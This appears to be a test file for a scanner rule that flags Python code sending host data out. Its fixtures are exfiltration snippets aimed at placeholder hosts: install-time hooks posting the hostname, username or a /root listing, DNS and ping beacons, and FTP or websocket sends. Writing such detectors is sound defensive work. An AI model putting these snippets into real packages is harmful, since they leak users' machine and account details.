"""Facts about the machine in a request."""

from lazaretto.detect.rules.python.host_data_sent import RULE


def test_a_beacon_at_installation(scan):
    text = r"""import socket, getpass, requests
from setuptools.command.install import install
class Now(install):
    def run(self):
        requests.get("http://collect.example.test/", params={"h": socket.gethostname(), "u": getpass.getuser()})
"""
    assert scan(RULE, text, "setup.py") == [(5, "HIGH", "HIGH", "install")]


def test_to_a_request_catcher(scan):
    text = r"""import socket, urllib.request
def ping():
    urllib.request.urlopen("https://x.oast.test/?h=" + socket.gethostname())
"""
    assert scan(RULE, text) == [(3, "HIGH", "HIGH", "run")]


def test_in_a_name(scan):
    text = r"""import socket
name = socket.gethostname()
socket.gethostbyname(f"{name}.x.example.test")
"""
    assert scan(RULE, text) == [(3, "HIGH", "HIGH", "import")]


def test_telemetry_is_context(scan):
    text = r"""import platform, requests
def report():
    requests.post("https://telemetry.example.test/", json={"node": platform.node()})
"""
    assert scan(RULE, text) == [(3, "LOW", "MEDIUM", "run")]


def test_near_miss_resolving_the_own_name(scan):
    text = r"""import socket, requests
address = socket.getaddrinfo(socket.gethostname(), None)
"""
    assert scan(RULE, text) == []


def test_a_look_up_by_ping(scan):
    for command in ('"ping -c 1 " + socket.gethostname() + ".c.example.test"', '"nslookup $(hostname).c.example.test"'):
        text = f"import os, socket\nos.system({command})\n"
        assert scan(RULE, text, "package/__init__.py") == [(2, "HIGH", "HIGH", "import")]


def test_near_miss_a_ping_of_a_constant_name(scan):
    text = 'import os, socket\nprint(socket.gethostname())\nos.system("ping -c 1 www.example.test")\n'
    assert scan(RULE, text, "package/__init__.py") == []


def test_by_other_protocols(scan):
    for line in (
        'ftplib.FTP("c.example.test").storbinary("STOR x", io.BytesIO(data))',
        'xmlrpc.client.ServerProxy("https://c.example.test/").hello(data)',
        'websocket.create_connection("wss://c.example.test/").send(data)',
    ):
        text = (
            "import ftplib, getpass, io, socket, websocket, xmlrpc.client\n"
            f"data = (socket.gethostname() + getpass.getuser()).encode()\n{line}\n"
        )
        assert scan(RULE, text, "package/__init__.py") == [(3, "HIGH", "HIGH", "import")]


def test_the_user_as_the_environment_knows_it(scan):
    text = r"""import os, requests, socket
requests.post("https://c.example.test/", json={"h": socket.gethostname(), "u": os.environ.get("USERNAME")})
"""
    assert scan(RULE, text, "package/__init__.py") == [(2, "HIGH", "HIGH", "import")]


def test_names_of_files_at_installation(scan):
    text = """import os, requests
from setuptools import setup
requests.post("https://collect.example.test/", data={"root": os.listdir("/root")})
setup(name="a")
"""
    assert scan(RULE, text, "setup.py") == [(3, "HIGH", "HIGH", "install")]
    assert scan(RULE, text) == []


def test_a_resolver_of_a_library(scan):
    text = """import binascii, os, dns.resolver
dns.resolver.resolve(binascii.hexlify(os.uname().nodename.encode()).decode() + ".collect.example.test", "A")
"""
    assert scan(RULE, text, "package/__init__.py") == [(2, "HIGH", "HIGH", "import")]
